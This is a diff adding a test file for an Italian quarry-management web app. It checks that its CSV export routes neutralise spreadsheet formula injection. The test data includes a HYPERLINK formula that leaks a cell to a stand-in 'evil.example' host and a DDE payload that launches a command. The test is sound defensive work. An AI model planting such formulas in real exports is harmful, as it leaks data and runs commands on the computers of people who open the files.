@@ -1,0 +1,78 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { oneBatch, streamExport } from '../src/lib/export.js';
+import { buildTestApp, createProductionLookups, setupCompany, type TestClient, type TestContext } from './helpers.js';
+import { walkRoutes } from './security-helpers.js';
+
+const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2;"Clicca")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1)'];
+
+let ctx: TestContext;
+let admin: TestClient;
+
+/** The cells of a `;` CSV, quotes undone (enough for these rows: no line breaks inside cells). */
+function cells(body: string): string[] {
+  return body
+    .replace(/^\uFEFF/, '')
+    .split('\r\n')
+    .flatMap((line) => line.match(/("(?:[^"]|"")*"|[^;]*)(;|$)/g) ?? [])
+    .map((cell) => cell.replace(/;$/, ''))
+    .map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell));
+}
+
+beforeAll(async () => {
+  ctx = await buildTestApp();
+  const org = await setupCompany(ctx);
+  admin = await org.adminClient();
+  const [name, comune, tracciabilita, numero] = FORMULAS;
+  const lookups = await createProductionLookups(admin);
+  const anagrafica = { ragioneSociale: name, nazione: 'DE', indirizzo: 'Hauptstr. 1', comune, partitaIva: 'DE123456789' };
+  const cliente = await admin.post('/api/clienti', anagrafica);
+  expect(cliente.statusCode, cliente.body).toBe(201);
+  const fornitore = await admin.post('/api/fornitori', anagrafica);
+  expect(fornitore.statusCode, fornitore.body).toBe(201);
+  const bancata = (
+    await admin.post('/api/bancate', { cavaId: lookups.cavaId, materialeId: lookups.materialeId, dataTaglio: '2026-03-10', lunghezza: 1200, altezza: 600, profondita: 400 })
+  ).json();
+  for (const stato of ['in_taglio', 'ribaltata', 'in_riquadratura']) await admin.post(`/api/bancate/${bancata._id}/stato`, { stato });
+  const blocco = await admin.post('/api/blocchi', {
+    bancataId: bancata._id, ubicazioneId: lookups.ubicazioneId, lunghezza: 280, altezza: 150, profondita: 120, codiceTracciabilita: tracciabilita,
+  });
+  expect(blocco.statusCode, blocco.body).toBe(201);
+  const esterno = await admin.post('/api/blocchi-esterni', {
+    fornitoreId: fornitore.json()._id, numeroFornitore: numero, codiceTracciabilita: tracciabilita, dataAcquisto: '2026-02-01', prezzoAcquisto: 1850.5, unitaPrezzoAcquisto: 'm3',
+    materialeId: lookups.materialeId, ubicazioneId: lookups.ubicazioneId, lunghezza: 300, altezza: 160, profondita: 140,
+  });
+  expect(esterno.statusCode, esterno.body).toBe(201);
+});
+afterAll(() => ctx.close());
+
+describe('CSV exports neutralise formulas (QUALITY S16)', () => {
+  it('every /export route writes text that would start a formula with a leading quote', async () => {
+    const exports = walkRoutes(ctx.app).filter((r) => r.method === 'GET' && r.url.endsWith('/export'));
+    expect(exports.map((r) => r.url)).toEqual(
+      expect.arrayContaining(['/api/clienti/export', '/api/fornitori/export', '/api/blocchi/export', '/api/blocchi-esterni/export']),
+    );
+    for (const route of exports) {
+      const res = await admin.get(route.url, { query: { format: 'csv' } });
+      expect(res.statusCode, `${route.url}: ${res.body}`).toBe(200);
+      const all = cells(res.body);
+      expect(all.filter((c) => /^[=+\-@\t\r]/.test(c)), route.url).toEqual([]);
+      expect(all.some((c) => FORMULAS.some((f) => c === `'${f}`)), route.url).toBe(true);
+    }
+  });
+
+  it('keeps numbers numbers, negative ones included; only text is quoted', async () => {
+    const out = await streamExport({
+      format: 'csv',
+      sheet: 'Prova',
+      baseName: 'prova',
+      columns: [
+        { header: 'Numero', value: (r: { n: number; t: string }) => r.n },
+        { header: 'Testo', value: (r: { n: number; t: string }) => r.t },
+      ],
+      batches: oneBatch(Promise.resolve([{ n: -12.5, t: '-12,5' }])),
+    });
+    let body = '';
+    for await (const chunk of out.stream) body += String(chunk);
+    expect(body.replace(/^\uFEFF/, '').split('\r\n')[1]).toBe("-12,5;'-12,5");
+  });
+});
